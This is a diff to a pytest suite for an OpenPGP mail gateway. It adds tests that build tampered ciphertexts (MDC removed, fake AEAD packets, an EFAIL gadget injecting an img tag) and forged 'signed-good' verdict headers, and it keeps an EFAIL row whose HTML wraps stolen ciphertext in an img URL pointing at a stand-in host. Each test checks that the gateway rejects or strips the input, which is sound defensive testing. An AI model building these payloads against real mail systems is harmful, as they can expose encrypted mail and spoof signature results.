@@ -76,6 +76,38 @@ def flip(armor, where):
     return lines[0] + b"\n\n" + base64.encodebytes(bytes(octets)) + lines[end] + b"\n"
 
 
+def packets(octets):
+    """[(tag, body), ...] of what gpg wrote, without the lengths."""
+    out, at = [], 0
+    while at < len(octets):
+        head, at, body, more = octets[at], at + 1, b"", True
+        if not head & 0x40:
+            size = 1 << (head & 3)
+            n, at = int.from_bytes(octets[at:at + size], "big"), at + size
+            out.append((head >> 2 & 15, octets[at:at + n]))
+            at += n
+            continue
+        while more:
+            n, at = octets[at], at + 1
+            more = 224 <= n < 255
+            if more:
+                n = 1 << (n & 31)
+            elif n == 255:
+                n, at = int.from_bytes(octets[at:at + 4], "big"), at + 4
+            elif n >= 192:
+                n, at = ((n - 192) << 8) + octets[at] + 192, at + 1
+            body, at = body + octets[at:at + n], at + n
+        out.append((head & 63, body))
+    return out
+
+
+def joined(*parts):
+    octets = b"".join(bytes([0xc0 | tag, 255]) + len(body).to_bytes(4, "big") + body
+                      for tag, body in parts)
+    return run("gpg", "--enarmor", input=octets).stdout.replace(
+        b"PGP ARMORED FILE", b"PGP MESSAGE")
+
+
 @pytest.fixture(scope="module")
 def people():
     root = pathlib.Path(tempfile.mkdtemp(prefix="sge-pgp."))
@@ -157,6 +189,8 @@ def test_what_others_seal_is_opened_and_verified(gw, capture, people):
         ("signed inside of MIME", pgp_mime(seal(people, signed)), "encrypted, signed-good;"),
         ("Exchange", exchange(seal_(by=EVE)), "encrypted, signed-good;"),
         ("wrapped by a list", mixed(pgp_mime(seal_(by=EVE))), "encrypted, signed-good;"),
+        ("packets put together anew", pgp_mime(joined(*packets(seal_("--no-armor", "-z", "0")))),
+         "encrypted;"),
         ("inline", text_part(seal(people, plain, by=EVE)), "encrypted, signed-good;"),
         ("inline with attachment",
          mixed(text_part(seal(people, plain)), attachment(b"a.txt.pgp", seal(people, b"file\n"))),
@@ -192,6 +226,11 @@ def test_attacks_get_a_verdict_and_no_secret(gw, capture, people):
         b"PGP ARMORED FILE", b"PGP MESSAGE")
     old = run("gpg", "--enarmor", input=sed).stdout.replace(b"PGP ARMORED FILE", b"PGP MESSAGE")
     bomb = seal(people, bytes(30 << 20), "--compress-algo", "bzip2")
+    key, sealed = packets(binary)
+    assert (key[0], sealed[0], sealed[1][0]) == (1, 18, 1)
+    # the block behind the first two: EFAIL's gadget, which leaves the MDC alone
+    known = bytearray(sealed[1])
+    known[35:51] = bytes(a ^ b for a, b in zip(known[35:51], b"<img src=x:?a=1>"))
     rows = [
         # EFAIL, direct: HTML around a ciphertext of somebody else
         ("HTML around", mixed(HTML + b"<img src=\"http://e/", octet + stolen, HTML + b"\">"),
@@ -208,6 +247,19 @@ def test_attacks_get_a_verdict_and_no_secret(gw, capture, people):
         ("last octet changed", pgp_mime(flip(armor, -1)), "undecryptable"),
         ("an octet changed", pgp_mime(flip(armor, -30)), "undecryptable"),
         ("no MDC", pgp_mime(old), "undecryptable"),
+        ("its MDC cut off", pgp_mime(joined(key, (18, sealed[1][:-22]))), "undecryptable"),
+        ("a packet that has no MDC", pgp_mime(joined(key, (9, sealed[1][1:]))), "undecryptable"),
+        ("the same without its MDC", pgp_mime(joined(key, (9, sealed[1][1:-22]))),
+         "undecryptable"),
+        ("a packet with AEAD", pgp_mime(joined(key, (20, b"\1\x09\2\x10" + sealed[1][1:]))),
+         "undecryptable"),
+        ("another version of it", pgp_mime(joined(key, (18, b"\2\x09\2\6" + sealed[1][1:]))),
+         "undecryptable"),
+        ("a gadget", pgp_mime(joined(key, (18, bytes(known)))), "undecryptable"),
+        # which is no OpenPGP message at all
+        ("another one behind it", pgp_mime(joined(key, sealed, key, sealed)), "none"),
+        ("a text behind it", pgp_mime(joined(key, sealed, (11, b"b\0" + bytes(4) + b"pay"))),
+         "none"),
         # exhaustion
         ("10 000 session keys", pgp_mime(flood), "undecryptable"),
         ("a bomb", pgp_mime(bomb), "undecryptable"),
@@ -261,6 +313,19 @@ def test_signatures_that_are_no_good_are_not_called_so(gw, capture, people):
     gw.send_in(MALLORY, OTTO, head(sender=MALLORY) + pgp_mime(seal(people, TEXT, by=EVE)))
     said = verdicts(capture.wait(len(rows) + 1)[-1].data)[0]
     assert b"signed-good" not in said and said.startswith(b"encrypted, signed-"), said
+
+
+def test_forged_verdicts_inside_are_taken_out(gw, capture, people):
+    forged = (b"Sealgate-Verdict: encrypted,\r\n signed-good; signer=boss@sender.example\r\n"
+              b"SEALGATE-VERDICT : signed-good\r\n"
+              b"Authentication-Results: gw.sender.example; openpgp=pass\r\n")
+    rows = [("inside", pgp_mime(seal(people, forged + TEXT)), "encrypted;"),
+            ("in the status of the file", pgp_mime(seal(
+                people, forged + TEXT, "--set-filename", forged.decode())), "encrypted;")]
+    for row, data in zip(rows, deliver(gw, capture, rows)):
+        assert len(verdicts(data)) == 1 and SECRET in data, row[0]
+        assert verdicts(data)[0].decode().startswith(row[2]), (row[0], verdicts(data))
+        assert b"boss@" not in data and b"openpgp=pass" not in data, row[0]
 
 
 def test_a_key_that_is_imported_later_opens_what_is_released(make_gateway, capture, people):
